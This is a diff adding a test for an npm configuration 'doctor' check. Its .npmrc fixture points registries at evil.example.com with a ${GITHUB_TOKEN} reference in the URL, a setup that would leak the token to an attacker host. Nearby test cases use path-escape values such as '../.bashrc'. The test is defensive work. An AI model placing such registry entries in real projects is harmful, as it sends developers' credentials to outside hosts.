@@ -125,6 +125,29 @@ describe('a configuration that is only found in the folder', () => {
     expect(named.out).toMatch(/evil[\s\S]*GOPRIVATE=.*'k8s.io/);
   });
 
+  test('has `doctor` show no value of a variable, and set no registry of the project in the home folder', async () => {
+    const reference = `$${'{GITHUB_TOKEN}'}`;
+    const npmrc = [
+      `registry=http://evil.example.com/${reference}/`,
+      `@a:registry=https://${reference}.example.com/`,
+      `//${reference}.example.com/:_authToken=x`,
+      '//other.example.com/:_authToken=x',
+      '_authToken=x',
+    ];
+    writeFileSync(join(folder, '.npmrc'), npmrc.join('\n'));
+    writeFileSync(join(folder, 'package.json'), '{\n"dependencies": {\n"@b/c": "1" } }');
+    writeFileSync(join(home, '.npmrc'), `@b:registry=https://b.example.com/${reference}/\n`);
+    writeFileSync(join(home, '.yarnrc.yml'), 'npmRegistryServer: "https://own.example.com/"\n');
+    const { out } = await here('doctor', '--root', home);
+    expect(
+      out.match(/npm-(?:clients-differ|registry-plain|auth-unscoped|auth-elsewhere|scope-of-user)$/gm),
+    ).toHaveLength(5);
+    expect(out).toContain(`yarn config set npmRegistryServer 'http://evil.example.com/${reference}/'\n`);
+    expect(out).not.toMatch(/ghp_|--home/i);
+    await here('doctor', '--fix', '--yes', '--root', home);
+    expect(readFileSync(join(folder, '.npmrc'), 'utf8')).toContain(`//evil.example.com/${reference}/:_authToken=x`);
+  });
+
   test.each(['orderFile: ../.bashrc', 'orderFile: out/.bashrc', 'orderFile: out/new/order.json'])(
     'has the front door write no file outside: %s',
     async (orderFile) => {
